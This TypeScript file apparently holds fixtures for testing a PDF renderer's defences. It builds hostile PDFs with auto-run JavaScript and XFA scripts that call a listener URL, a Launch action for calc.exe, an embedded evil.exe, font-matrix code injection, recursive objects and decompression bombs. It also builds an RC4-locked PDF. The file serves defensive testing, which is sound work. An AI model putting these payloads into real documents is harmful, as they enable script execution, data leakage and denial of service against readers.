import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import { aPdf, onePage, rawPdf } from "./pdf";

/** A PDF that would do harm if it could, and what its words are where they can be read. */
export interface HostilePdf {
  readonly name: string;
  make(listener: string): Uint8Array;
}

const words = "BT /F1 14 Tf 72 700 Td (Still to be read) Tj ET";
const script = (listener: string) =>
  `(app.launchURL('${listener}/js', true); this.submitForm('${listener}/form'); app.alert('hostile'); globalThis.hostile = 1;)`;
const stream = (dictionary: string, bytes: Uint8Array) =>
  Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from("\nendstream")]);

/** Each must run nothing, ask for nothing, and end: drawn, or with a reason. */
export const hostilePdfs: readonly HostilePdf[] = [
  {
    name: "a script when it is opened, closed and printed",
    make: (listener) =>
      onePage(words, {
        catalog: `/OpenAction << /S /JavaScript /JS ${script(listener)} >> /AA << /WC << /S /JavaScript /JS ${script(listener)} >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script(listener)} >>] >> >>`,
      }),
  },
  {
    name: "a script when the page is shown",
    make: (listener) => onePage(words, { page: `/AA << /O << /S /JavaScript /JS ${script(listener)} >> >>` }),
  },
  {
    name: "links, launches and forms that send",
    make: (listener) =>
      onePage(words, {
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${listener}/uri) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (calc.exe) >> >> << /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 200 200] /A << /S /SubmitForm /F << /FS /URL /F (${listener}/submit) >> >> >>]`,
        catalog: `/OpenAction << /S /URI /URI (${listener}/open) >> /AcroForm << /Fields [] >>`,
      }),
  },
  {
    name: "a file in it, and one elsewhere",
    make: (listener) =>
      onePage(words, {
        catalog: "/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>",
        page: `/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 40 40] /FS 6 0 R >> << /Type /Annot /Subtype /Screen /Rect [50 50 90 90] /A << /S /Rendition >> >>]`,
        resources: `/XObject << /X << /Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (${listener}/image) >> >> >>`,
        more: ["<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>", stream("/Type /EmbeddedFile", Buffer.from("MZ"))],
      }),
  },
  {
    name: "an XFA form with a script",
    make: (listener) =>
      onePage(words, {
        catalog: "/AcroForm << /XFA 6 0 R /Fields [] >>",
        more: [
          stream(
            "",
            Buffer.from(
              `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>xfa.host.gotoURL("${listener}/xfa")</script></event></subform></template></xdp:xdp>`,
            ),
          ),
        ],
      }),
  },
  {
    name: "a font whose matrix is code",
    make: () =>
      onePage(words.replaceAll("F1", "F2"), {
        resources: "/Font << /F2 6 0 R >>",
        more: [
          "<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor 7 0 R /FirstChar 32 /LastChar 126 /Widths [500] /FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.hostile = 2; //)] >>",
          "<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile 8 0 R /FontMatrix [1 2 3 4 5 (alert\\(1\\))] >>",
          stream("/Length1 64", Buffer.from("%!PS-AdobeFont-1.0: Evil\n/FontMatrix [0.001 0 0 0.001 0 (globalThis.hostile=3)] def\neexec garbage")),
        ],
      }),
  },
  {
    name: "a font that calls itself without end",
    make: () =>
      onePage(words.replaceAll("F1", "F2"), {
        resources: "/Font << /F2 6 0 R >>",
        more: [
          "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [0.1 0 0 0.1 0 0] /FirstChar 32 /LastChar 126 /Widths [10] /Encoding << /Differences [32 /a] >> /CharProcs << /a 7 0 R >> /Resources << /Font << /F2 6 0 R >> >> >>",
          stream("", Buffer.from("10 0 d0 BT /F2 1 Tf ( ) Tj ET")),
        ],
      }),
  },
  {
    name: "a form that draws itself",
    make: () =>
      onePage(`${words} /X Do`, {
        resources: "/XObject << /X 6 0 R >>",
        more: [stream("/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X 6 0 R >> >>", Buffer.from("/X Do /X Do"))],
      }),
  },
  {
    name: "pages that are their own parents",
    make: () =>
      rawPdf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 4 >>",
        "<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 3 >>",
      ]),
  },
  {
    name: "a count of pages that is not true",
    make: () =>
      rawPdf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
      ]),
  },
  { name: "arrays nested a hundred thousand deep", make: () => onePage(`${words} ${"[".repeat(100_000)}`) },
  { name: "saved states without end", make: () => onePage(`${words} ${"q ".repeat(200_000)}`) },
  {
    name: "bytes that become a hundred megabytes",
    make: () => onePage(deflateSync(Buffer.alloc(100 * 1024 * 1024, " ")), { filter: "/Filter /FlateDecode" }),
  },
  {
    name: "bytes packed twice that become gigabytes",
    make: () => onePage(deflateSync(deflateSync(Buffer.alloc(512 * 1024 * 1024))), { filter: "/Filter [/FlateDecode /FlateDecode]" }),
  },
  {
    name: "a picture of a hundred thousand pixels a side",
    make: () =>
      onePage(`${words} q 600 0 0 600 0 0 cm /X Do Q`, {
        resources: "/XObject << /X 6 0 R >>",
        more: [
          stream(
            "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
            deflateSync(Buffer.alloc(1000)),
          ),
        ],
      }),
  },
  {
    name: "a page of a million miles",
    make: () =>
      rawPdf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9] /UserUnit 75000 /Contents 4 0 R >>",
        stream("", Buffer.from("0 0 1e9 1e9 re f")),
      ]),
  },
  {
    name: "a table of objects that leads to itself",
    make: () =>
      new Uint8Array(
        Buffer.from(
          Buffer.from(aPdf([{ lines: ["Still to be read"] }]))
            .toString("latin1")
            .replace(/trailer <</, "trailer << /Prev 9 /XRefStm 9"),
          "latin1",
        ),
      ),
  },
  {
    name: "an object stream that holds itself",
    make: () => onePage(words, { more: [stream("/Type /ObjStm /N 1 /First 4 /Extends 6 0 R", Buffer.from("6 0 << >>"))] }),
  },
];

/** Locked with a password that nobody gave: RC4 of 128 bits, as the standard's revision 3 has it. */
export function lockedPdf(): Uint8Array {
  const id = "0123456789abcdef0123456789abcdef";
  const owner = createHash("md5").update("owner").digest();
  const padding = Buffer.from("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A", "hex");
  const password = Buffer.concat([Buffer.from("secret"), padding]).subarray(0, 32);
  const o = Buffer.concat([owner, owner]);
  let key = createHash("md5")
    .update(password)
    .update(o)
    .update(Buffer.from([0xfc, 0xff, 0xff, 0xff]))
    .update(Buffer.from(id, "hex"))
    .digest();
  for (let round = 0; round < 50; round++) key = createHash("md5").update(key).digest();
  const rc4 = (secret: Buffer, data: Buffer) => encrypted(secret, data);
  let u = rc4(key, createHash("md5").update(padding).update(Buffer.from(id, "hex")).digest());
  for (let round = 1; round <= 19; round++) u = rc4(Buffer.from(key.map((byte) => byte ^ round)), u);
  return rawPdf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
      `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${o.toString("hex")}> /U <${Buffer.concat([u, Buffer.alloc(16)]).toString("hex")}> >>`,
    ],
    `/Encrypt 4 0 R /ID [<${id}> <${id}>]`,
  );
}

/** RC4, which OpenSSL no longer offers by default. */
function encrypted(key: Buffer, data: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, index) => index);
  const swap = (a: number, b: number) => ([state[a], state[b]] = [state[b]!, state[a]!]);
  for (let i = 0, j = 0; i < 256; i++) swap(i, (j = (j + state[i]! + key[i % key.length]!) & 255));
  let [i, j] = [0, 0];
  return Buffer.from(
    data.map((byte) => {
      i = (i + 1) & 255;
      j = (j + state[i]!) & 255;
      swap(i, j);
      return byte ^ state[(state[i]! + state[j]!) & 255]!;
    }),
  );
}
